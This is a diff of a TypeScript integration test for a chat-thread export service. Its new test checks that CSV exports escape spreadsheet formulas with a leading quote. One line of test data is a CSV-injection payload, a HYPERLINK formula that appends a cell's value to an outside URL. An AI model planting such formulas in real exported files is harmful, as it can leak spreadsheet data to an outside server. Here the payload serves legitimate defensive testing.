@@ -5,14 +5,15 @@ import {
   ListObjectsV2Command,
 } from "@aws-sdk/client-s3";
 import { sql } from "drizzle-orm";
-import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { seedThreads } from "../../bench/threads-list.js";
-import { type ExportPipeline, startExportPipeline } from "../../local/exports.js";
+import type { ExportPipeline } from "../../local/exports.js";
 import type { Gateway } from "../../local/gateway.js";
 import { createS3Client } from "../../shared/exports/s3.js";
 import { categoryLabel, thread } from "../../shared/http/schemas.js";
 import { parseCsv } from "../support/csv.js";
 import { createTenant, type Tenant, useTestDb } from "../support/db.js";
+import { startTestExportPipeline } from "../support/exports.js";
 import { type HttpReply, startTestGateway } from "../support/http.js";
 import { eventually } from "../support/sqs.js";
 
@@ -22,12 +23,7 @@ let gateway: Gateway;
 let call: Awaited<ReturnType<typeof startTestGateway>>["call"];
 
 beforeAll(async () => {
-  pipeline = await startExportPipeline({
-    s3Endpoint: inject("sqsEndpoint"),
-    visibilityTimeoutSeconds: 30,
-    queueName: `kapa-test-exports-${crypto.randomUUID().slice(0, 8)}`,
-    bucket: `kapa-test-exports-${crypto.randomUUID().slice(0, 8)}`,
-  });
+  pipeline = await startTestExportPipeline();
   ({ gateway, call } = await startTestGateway());
 });
 afterAll(async () => {
@@ -40,16 +36,17 @@ const base = (t: Tenant) => `/query/v1/projects/${t.projectId}`;
 async function startExport(t: Tenant, body: Record<string, unknown>): Promise<string> {
   const reply = await call("POST", `${base(t)}/exports/`, { key: t.apiKey, body: JSON.stringify(body) });
   expect(reply.status, reply.text).toBe(202);
-  expect(reply.json?.status).toBe("running");
+  expect(reply.json?.status).toBe("queued");
   return reply.json?.id as string;
 }
 
-/** Polls the export until it is no longer running. */
+/** Polls the export until it is finished (neither queued nor running). */
 function finished(t: Tenant, id: string): Promise<Record<string, unknown>> {
   return eventually(async () => {
     const reply = await call("GET", `${base(t)}/exports/${id}/`, { key: t.apiKey });
     expect(reply.status, reply.text).toBe(200);
-    return reply.json?.status === "running" ? undefined : (reply.json as Record<string, unknown>);
+    const status = reply.json?.status;
+    return status === "queued" || status === "running" ? undefined : (reply.json as Record<string, unknown>);
   }, 30_000);
 }
 
@@ -159,6 +156,38 @@ describe("exports", () => {
       .split("\n")
       .map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(rows).toEqual(list);
+  });
+});
+
+describe("exports: cells a spreadsheet would evaluate", () => {
+  const FORMULAS = ['=HYPERLINK("http://example.com/?"&A1,"x")', "+1+2", "-5 degrees, is that cold?", "@SUM(A1:A9)"];
+
+  it("neutralises them in CSV (a leading quote, OWASP) and keeps them verbatim in NDJSON", async () => {
+    const tenant = await createTenant(db, "exports-formulas");
+    const ids: string[] = [];
+    for (const question of FORMULAS) ids.push(await chat(tenant, question));
+    const created = await call("POST", `${base(tenant)}/categories/`, {
+      key: tenant.apiKey,
+      body: JSON.stringify({ name: "=1+1 risky" }),
+    });
+    expect(created.status, created.text).toBe(201);
+    await call("PATCH", `${base(tenant)}/threads/${ids[0]}/`, {
+      key: tenant.apiKey,
+      body: JSON.stringify({ category_id: created.json?.id }),
+    });
+    const expected = [...FORMULAS].reverse();
+
+    const records = parseCsv((await exportFile(tenant, { format: "csv", include_questions: true })).text).slice(1);
+    expect(records.map((r) => r[3])).toEqual(expected.map((q) => `'${q}`));
+    expect(records.at(-1)?.[6]).toBe("'=1+1 risky");
+    // The conversation's JSON column starts with "[" and still parses to the stored text.
+    const conversations = records.map((r) => JSON.parse(r.at(-1) as string) as { question: string }[]);
+    expect(conversations.map((c) => c[0]?.question)).toEqual(expected);
+
+    const lines = (await exportFile(tenant, { format: "ndjson" })).text.trimEnd().split("\n");
+    const threads = lines.map((l) => JSON.parse(l) as { first_question: string; category: { name: string } | null });
+    expect(threads.map((t) => t.first_question)).toEqual(expected);
+    expect(threads.at(-1)?.category?.name).toBe("=1+1 risky");
   });
 });
 
